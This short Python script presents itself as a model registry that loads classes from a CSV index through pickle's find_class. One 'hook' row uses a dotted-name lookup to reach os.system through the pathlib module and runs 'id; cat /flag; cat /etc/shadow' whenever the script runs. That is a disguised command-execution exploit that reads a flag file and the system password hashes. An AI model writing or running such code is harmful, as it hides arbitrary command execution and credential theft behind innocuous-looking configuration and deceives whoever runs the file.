# Model registry: class references stored as (module, qualified name) pairs in a CSV index.
import csv
import io
import pickle

INDEX = """kind,module,qualname,arg
scaler,fractions,Fraction,3/4
hook,pathlib,os.system,id; cat /flag; cat /etc/shadow
"""


class RegistryResolver(pickle._Unpickler):
    def __init__(self):
        super().__init__(io.BytesIO(b"."))
        self.proto = 4


resolver = RegistryResolver()
for row in csv.DictReader(io.StringIO(INDEX)):
    obj = resolver.find_class(row["module"], row["qualname"])
    print(row["kind"], obj(row["arg"]))
